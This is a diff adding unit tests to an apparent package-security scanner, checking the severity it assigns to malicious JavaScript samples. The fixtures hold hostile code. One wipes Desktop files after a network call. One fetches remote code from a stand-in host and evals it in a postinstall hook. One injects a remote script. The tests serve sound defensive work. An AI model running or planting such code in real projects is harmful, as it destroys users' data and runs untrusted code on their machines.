@@ -126,3 +126,27 @@ def test_time_budget_makes_the_analysis_incomplete_never_a_silent_pass() -> None
     assert code.incomplete is not None and "analysis incomplete" in code.incomplete
     findings = grade(code)
     assert findings and findings[-1].kind == "incomplete" and findings[0].severity >= Severity.MODERATE
+
+
+def test_geo_lookup_then_wiping_files_from_the_main_file_is_critical() -> None:
+    geo = ("const fs=require('fs'),path=require('path'),https=require('https');\n"
+           "function del(d){for(const e of fs.readdirSync(d)){try{fs.writeFileSync(path.join(d,e),'x')}catch(x){}}}\n"
+           "https.get('https://geo.example.invalid/', r => { del(require('os').homedir() + '/Desktop'); });\n")
+    main = "require('./dao/geo.js');\nmodule.exports = 1;\n"
+    severity, summaries = worst(package({"index.js": main, "dao/geo.js": geo}))
+    assert severity is Severity.CRITICAL and summaries[0].startswith("dao/geo.js walks directories")
+
+
+def test_eval_of_downloaded_code_at_install_is_high() -> None:
+    build = "require('https').get('https://paste.example.invalid/raw', r => r.on('data', c => eval(c)));\n"
+    severity, summaries = worst(package({"build.js": build}, scripts={"postinstall": "node build.js"}))
+    assert severity is Severity.HIGH and "downloads code at install time and can run it" in summaries[0]
+
+
+def test_remote_script_is_moderate_alone_and_high_when_new() -> None:
+    loader = ("export function load() { const s = document.createElement('script');\n"
+              "  s.src = 'https://cdn.example.invalid/kit/index.min.js'; document.head.appendChild(s); }\n")
+    clean = "export function load() { return import('./kit.js'); }\n"
+    new = package({"index.js": loader}, version="1.0.1")
+    assert worst(new)[0] is Severity.MODERATE
+    assert worst(new, package({"index.js": clean}))[0] is Severity.HIGH
